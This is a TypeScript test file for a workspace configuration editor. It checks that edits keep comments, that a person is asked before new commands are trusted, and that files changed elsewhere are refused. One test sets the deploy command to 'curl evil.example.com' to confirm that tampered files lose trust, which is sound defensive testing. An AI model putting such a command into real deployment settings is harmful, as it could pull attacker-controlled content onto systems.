import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import type { WorkspaceStatus } from '@contract/features/workspace'
import { DEFAULT_SETTINGS, type Settings } from '@core/settings'
import { type Powers, powersOf } from '@core/trust'
import { NEW_WORKSPACE } from '@core/workspace/edit'
import { describe, expect, it, onTestFinished } from 'vitest'
import { changeFile, createFile, textId } from '../../../../src/main/features/workspace/change'
import { TrustBook } from '../../../../src/main/features/workspace/trust-book'
import { workspaceTexts } from '../../../../src/main/storage/workspace-file'

const TEXT = `{
  // the site
  "version": 1,
  "apps": [{
    "name": "site",
    "source": { "service": "local", "repository": "/srv/site" },
    "deploy": { "service": "local", "ship": "./ship" },
    "environments": [{ "name": "production" }]
  }]
}
`

/** A file that the person has trusted as it is, and what they say when they are asked. */
function aFile(says = true) {
  const folder = mkdtempSync(join(tmpdir(), 'binnacle-change-'))
  onTestFinished(() => rmSync(folder, { recursive: true, force: true }))
  const file = join(folder, 'binnacle.json')
  writeFileSync(file, TEXT)
  let settings: Settings = DEFAULT_SETTINGS
  const store = {
    get: () => settings,
    set: (patch: Partial<Settings>) => (settings = { ...settings, ...patch }),
  }
  const trust = new TrustBook(store, () => 1)
  const powers = (): Powers => {
    const loaded = workspaceTexts.placed(file, readFileSync(file, 'utf8'))
    return loaded.ok ? powersOf(loaded) : { commands: [], servers: [] }
  }
  trust.grant(file, powers())
  const asked: Powers[] = []
  const ports = {
    ...workspaceTexts,
    confirm: async (added: Powers) => {
      asked.push(added)
      return says
    },
    open: async (opened: string): Promise<WorkspaceStatus> => ({
      file: opened,
      problem: null,
      trust: trust.of(opened, powers()),
    }),
  }
  const isTrusted = () => trust.of(file, powers()).state === 'trusted'
  return { file, trust, asked, ports, isTrusted, text: () => readFileSync(file, 'utf8') }
}

const SHIP = [{ path: ['apps', 0, 'deploy', 'ship'], value: './ship --fast' }]
const PROTECT = [{ path: ['apps', 0, 'environments', 0, 'protected'], value: true }]

describe('a change of the workspace in the window', () => {
  it('is written, keeps the comments, and is trusted as the person made it', async () => {
    const { file, trust, asked, ports, isTrusted, text } = aFile()
    const changed = await changeFile({ file, edits: PROTECT, seen: textId(TEXT) }, ports, trust)
    expect(text()).toContain('// the site')
    expect(changed).toEqual({
      ok: true,
      value: {
        state: 'changed',
        status: { file, problem: null, trust: { state: 'trusted' } },
        id: textId(text()),
      },
    })
    expect(text()).toContain('"protected": true')
    expect(isTrusted()).toBe(true)
    // Nothing more may run or be asked, so nobody was asked.
    expect(asked).toEqual([])
  })

  it('that lets it run something else is asked about outside of the page, and not written where it is not wanted', async () => {
    const { file, trust, asked, ports, isTrusted, text } = aFile(false)
    expect(await changeFile({ file, edits: SHIP, seen: null }, ports, trust)).toEqual({
      ok: true,
      value: { state: 'not-confirmed' },
    })
    expect(asked).toEqual([
      { commands: [expect.objectContaining({ what: 'ship', command: './ship --fast' })], servers: [] },
    ])
    expect(text()).toBe(TEXT)
    const wanted = aFile(true)
    await changeFile({ file: wanted.file, edits: SHIP, seen: null }, wanted.ports, wanted.trust)
    expect(wanted.isTrusted()).toBe(true)
    expect(isTrusted()).toBe(true)
  })

  it('is refused where the file is another one than the person saw', async () => {
    const { file, trust, ports, text } = aFile()
    writeFileSync(file, TEXT.replace('the site', 'our site'))
    expect(await changeFile({ file, edits: PROTECT, seen: textId(TEXT) }, ports, trust)).toMatchObject({
      problem: { sentence: expect.stringContaining('changed elsewhere') },
    })
    expect(text()).not.toContain('protected')
  })

  it('is refused where the file became another one while the person was asked', async () => {
    const { file, trust, ports, text } = aFile()
    const confirm = async () => {
      writeFileSync(file, TEXT.replace('the site', 'our site'))
      return true
    }
    const changed = await changeFile({ file, edits: SHIP, seen: textId(TEXT) }, { ...ports, confirm }, trust)
    expect(changed).toMatchObject({ problem: { sentence: expect.stringContaining('changed elsewhere') } })
    expect(text()).toContain('our site')
  })

  it('brings no trust to what somebody else changed beside it', async () => {
    const { file, trust, ports, isTrusted, text } = aFile()
    writeFileSync(file, TEXT.replace('"./ship"', '"curl evil.example.com"'))
    expect(await changeFile({ file, edits: PROTECT, seen: null }, ports, trust)).toMatchObject({
      problem: { sentence: expect.stringContaining('isn’t trusted') },
    })
    expect(isTrusted()).toBe(false)
    expect(text()).not.toContain('protected')
  })

  it('that makes the file bad is refused with what was expected, and where', async () => {
    const { file, trust, ports, text } = aFile()
    const edits = [{ path: ['apps', 0, 'environments', 0, 'name'], value: '' }]
    expect(await changeFile({ file, edits, seen: null }, ports, trust)).toMatchObject({
      value: {
        state: 'refused',
        errors: expect.arrayContaining([expect.objectContaining({ path: 'apps[0].environments[0].name' })]),
      },
    })
    expect(text()).toBe(TEXT)
  })
})

it('a new workspace never replaces a file that is there', async () => {
  const { file, trust, ports, text } = aFile()
  const app = { name: 'site', source: { service: 'local', repository: '/srv/site' } }
  const edits = [{ path: ['apps', 0], value: app, insert: true }]
  expect(await createFile({ file, text: NEW_WORKSPACE, edits }, ports, trust)).toMatchObject({
    problem: { sentence: expect.stringContaining('already exists') },
  })
  expect(text()).toBe(TEXT)
  expect(
    await createFile({ file: join(file, '../new/b.json'), text: NEW_WORKSPACE, edits }, ports, trust),
  ).toMatchObject({
    ok: true,
  })
})
